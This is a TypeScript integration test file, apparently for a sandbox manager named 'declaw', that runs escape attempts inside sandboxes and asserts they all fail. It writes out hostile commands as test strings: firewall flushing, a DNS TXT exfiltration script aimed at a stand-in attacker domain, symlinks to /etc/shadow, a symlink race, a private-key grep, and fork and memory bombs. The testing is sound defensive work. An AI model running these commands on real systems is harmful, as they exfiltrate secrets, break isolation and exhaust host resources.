/**
 * Escape attempts from inside real sandboxes. Every one must fail. The "internet" is hosts in network
 * namespaces this test creates (and removes); the host-side listeners are on host addresses only.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import * as dnsPacket from 'dns-packet';
import { mapDnsUpstream, type DnsUpstream } from '../../../src/sandbox/dns/dns-upstream.js';
import { countRules, sandboxChainPattern } from '../../../src/sandbox/firewall.js';
import type { SandboxManager } from '../../../src/sandbox/sandbox-manager.js';
import type { Sandbox } from '../../../src/sandbox/sandbox.js';
import { PathRefusedError } from '../../../src/errors.js';
import { requireRoot } from '../../helpers/root.js';
import { testManager } from '../../unit/sandbox/helpers/manager.js';
import { createTestInternet, PROBE, type TestInternet } from '../../unit/sandbox/helpers/test-internet.js';

const isRoot = process.getuid?.() === 0;
let internet: TestInternet;
let manager: SandboxManager;
let sbx: Sandbox;
let hostServer: Server;
const upstreamNames: string[] = [];

before(async () => {
  if (!isRoot) return;
  internet = await createTestInternet('es', 51, [
    { name: 'allowed', tcp: [8080, 53, 853], udp: [53, 9999] },
    { name: 'denied', tcp: [8080], udp: [9999] },
  ]);
  const map = mapDnsUpstream({ 'allowed.test': internet.host('allowed').v4 });
  const spy: DnsUpstream = {
    query: (p, o) => {
      upstreamNames.push(dnsPacket.decode(p).questions?.[0]?.name ?? '');
      return map.query(p, o);
    },
  };
  ({ manager } = await testManager('tes2', 51, {
    trustedRanges: internet.trustedRanges,
    dnsUpstream: spy,
    limits: { pids: 64, memoryBytes: 96 * 1024 * 1024 },
  }));
  sbx = await manager.create({
    policy: { network: { allowOut: [internet.host('allowed').v4], denyOut: ['0.0.0.0/0'] } },
  });
  await sbx.files.write('/tmp/probe.py', readFileSync(PROBE));
  // A host service on the sandbox's own gateway address: the host must stay closed to the sandbox.
  hostServer = createServer((s) => s.end('host service\n'));
  await new Promise<void>((r) => hostServer.listen(0, sbx.info().network.gateway, r));
});

after(async () => {
  if (!isRoot) return;
  hostServer?.close();
  await manager?.close();
  await internet?.destroy();
});

async function probe(mode: 'tcp' | 'udp', host: string, port: number): Promise<string> {
  return (
    await sbx.commands.run(`python3 /tmp/probe.py ${mode} ${host} ${port} 1.5`, { timeoutMs: 20_000 })
  ).stdout.trim();
}

async function attempt(cmd: string): Promise<{ stdout: string; stderr: string; exitCode: number }> {
  return sbx.commands.run(cmd, { timeoutMs: 20_000 }).catch((e) => e.result);
}

test('the allowed test host is reachable: the probes below would see a success', async (t) => {
  if (!requireRoot(t, 'sandboxes need root')) return;
  assert.match(await probe('tcp', internet.host('allowed').v4, 8080), /^ok hello from allowed/);
});

test('flushing iptables and changing routes fail, and the host rules stay in place', async (t) => {
  if (!requireRoot(t, 'sandboxes need root')) return;
  const before = await countRules(sandboxChainPattern(sbx.resources.names));
  const r = await attempt(
    'iptables -F 2>&1; iptables -P FORWARD ACCEPT 2>&1; nft flush ruleset 2>&1; ip route del default 2>&1; ip route add 0.0.0.0/1 dev eth0 2>&1; ip link set eth0 down 2>&1; ip route',
  );
  assert.match(r.stdout, /Permission denied|Operation not permitted/);
  assert.match(r.stdout, /^default via /m, 'the default route is still there');
  assert.deepEqual(await countRules(sandboxChainPattern(sbx.resources.names)), before);
  assert.match(await probe('tcp', internet.host('denied').v4, 8080), /^fail/);
});

test('no other port of the host is reachable, on any host address', async (t) => {
  if (!requireRoot(t, 'sandboxes need root')) return;
  const port = (hostServer.address() as AddressInfo).port;
  assert.match(await probe('tcp', sbx.info().network.gateway, port), /^fail/);
  assert.match(await probe('tcp', internet.host('allowed').hostSideV4, port), /^fail/);
  assert.match(await probe('tcp', sbx.info().network.gateway, 22), /^fail/);
});

test('a denied test host is unreachable by raw IP, and raw sockets are not available', async (t) => {
  if (!requireRoot(t, 'sandboxes need root')) return;
  assert.match(await probe('tcp', internet.host('denied').v4, 8080), /^fail/);
  const raw = await attempt(
    `python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)" 2>&1`,
  );
  assert.match(raw.stdout, /PermissionError|Operation not permitted/);
});

test('IPv6, UDP, DNS to another resolver and DNS over TLS are closed', async (t) => {
  if (!requireRoot(t, 'sandboxes need root')) return;
  assert.match(await probe('tcp', internet.host('allowed').v6, 8080), /^fail/);
  assert.match(await probe('udp', internet.host('allowed').v4, 9999), /^fail/);
  assert.match(await probe('udp', internet.host('allowed').v4, 53), /^fail/);
  assert.match(await probe('tcp', internet.host('allowed').v4, 53), /^fail/);
  assert.match(await probe('tcp', internet.host('allowed').v4, 853), /^fail/);
});

test('TXT exfiltration through a denied name gets NXDOMAIN and never reaches a resolver', async (t) => {
  if (!requireRoot(t, 'sandboxes need root')) return;
  upstreamNames.length = 0;
  const script = `
import socket, struct
def q(name, qtype):
    pkt = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        pkt += bytes([len(label)]) + label.encode()
    pkt += b"\\x00" + struct.pack(">HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(pkt, (open("/etc/resolv.conf").read().split()[1], 53))
    return s.recv(512)[3] & 0x0f
print(q("c2VjcmV0LWRhdGE.exfil.attacker.test", 16), q("another-chunk.attacker.test", 1))
`;
  await sbx.files.write('/tmp/txt.py', script);
  const r = await attempt('python3 /tmp/txt.py');
  assert.equal(r.stdout.trim(), '3 3', 'NXDOMAIN (3) for TXT and A');
  assert.deepEqual(upstreamNames, []);
});

test('the files API refuses .. and symlinks the sandbox plants to reach host files', async (t) => {
  if (!requireRoot(t, 'sandboxes need root')) return;
  await attempt(
    'ln -sf /etc/shadow /workspace/shadow; ln -sfn / /workspace/root; ln -sf ../../../../../../etc/passwd /workspace/rel',
  );
  for (const p of [
    '/workspace/shadow',
    '/workspace/root/etc/passwd',
    '/workspace/rel',
    '../../etc/shadow',
    '/workspace/../../etc/shadow',
  ]) {
    await assert.rejects(sbx.files.read(p), PathRefusedError, p);
  }
  await assert.rejects(sbx.files.write('/workspace/root/etc/cron.d/pwn', 'x'), PathRefusedError);
});

test('swapping a directory for a symlink while the host writes never lands a file on the host', async (t) => {
  if (!requireRoot(t, 'sandboxes need root')) return;
  const marker = `declaw-escape-probe-${randomBytes(4).toString('hex')}`;
  // A real host directory the symlink names: a write that followed it on the host would land there.
  const hostDir = mkdtempSync('/tmp/declaw-hostroot-');
  const flipper = await sbx.commands.start(
    `cd /workspace; while true; do rm -rf race; mkdir race; rm -rf race; ln -s ${hostDir} race; done`,
    { timeoutMs: 30_000 },
  );
  try {
    for (let i = 0; i < 300; i++) {
      await sbx.files.write(`/workspace/race/${marker}`, 'x').catch(() => undefined);
    }
  } finally {
    await flipper.kill();
  }
  assert.deepEqual(readdirSync(hostDir), []);
  rmSync(hostDir, { recursive: true, force: true });
  // Inside the sandbox the same link means the sandbox's own /tmp: that is where writes may land.
});

test('the CA private key is nowhere in the sandbox, and host processes are invisible', async (t) => {
  if (!requireRoot(t, 'sandboxes need root')) return;
  const r = await attempt(
    'grep -rIl "PRIVATE KEY" /etc /home /workspace /tmp /run /var 2>/dev/null | wc -l; ls /proc | grep -E "^[0-9]+$" | wc -l; cat /proc/1/cmdline | tr "\\0" " "',
  );
  const [keys, procs] = r.stdout.split('\n');
  assert.equal(keys, '0');
  assert.ok(Number(procs) <= 5, `sees ${procs} processes`);
  assert.doesNotMatch(r.stdout, /node|declaw|systemd|init/);
});

test('a fork bomb is stopped by the pids limit and the sandbox stays usable', async (t) => {
  if (!requireRoot(t, 'sandboxes need root')) return;
  // Never set off a fork bomb that nothing would stop: without a pids limit this fails instead.
  assert.ok(sbx.info().limits.enforced.pids, 'the host enforces no pids limit (see declaw doctor)');
  const bomb = await sbx.commands.start('bomb() { bomb | bomb & }; bomb; sleep 30', { timeoutMs: 20_000 });
  let peak = 0;
  for (let i = 0; i < 20; i++) {
    peak = Math.max(peak, (await sbx.metrics()).processes);
    await sleep(100);
  }
  await bomb.kill();
  assert.ok(peak <= 64, `peak ${peak} processes with a limit of 64`);
  assert.ok(peak >= 16, `the bomb ran (peak ${peak})`);
  assert.equal((await sbx.commands.run('echo still here')).stdout, 'still here\n');
});

test('a memory bomb is killed at the memory limit', async (t) => {
  if (!requireRoot(t, 'sandboxes need root')) return;
  assert.ok(sbx.info().limits.enforced.memory, 'the host enforces no memory limit (see declaw doctor)');
  const r = await attempt('python3 -c "a = bytearray(400 * 1024 * 1024); print(len(a))"');
  assert.notEqual(r.exitCode, 0);
  assert.doesNotMatch(r.stdout, /419430400/);
  assert.equal((await sbx.commands.run('echo survived')).stdout, 'survived\n');
});

test('one sandbox cannot reach another, over IPv4 or IPv6', async (t) => {
  if (!requireRoot(t, 'sandboxes need root')) return;
  const other = await manager.create({ policy: {} });
  try {
    const server = await other.commands.start('python3 -m http.server 8000 --bind :: 2>/dev/null', {
      timeoutMs: 60_000,
    });
    await other.commands.run(
      'for i in $(seq 100); do (echo > /dev/tcp/127.0.0.1/8000) 2>/dev/null && exit 0; sleep 0.1; done; exit 1',
    );
    // The server is up (the loop above fails otherwise); only the other sandbox cannot reach it.
    const net = other.info().network;
    assert.match(await probe('tcp', net.address, 8000), /^fail/);
    if (net.addressV6) assert.match(await probe('tcp', net.addressV6, 8000), /^fail/);
    await server.kill();
  } finally {
    await other.kill();
  }
});

test('nested namespaces and mounts are refused', async (t) => {
  if (!requireRoot(t, 'sandboxes need root')) return;
  const r = await attempt(
    'unshare -Ur true 2>&1; unshare -n true 2>&1; mount -t tmpfs x /tmp 2>&1; echo done',
  );
  assert.doesNotMatch(r.stdout.split('\n')[0] ?? '', /^$/);
  assert.match(r.stdout, /(Operation not permitted|No space left|Permission denied)[\s\S]*done/);
});
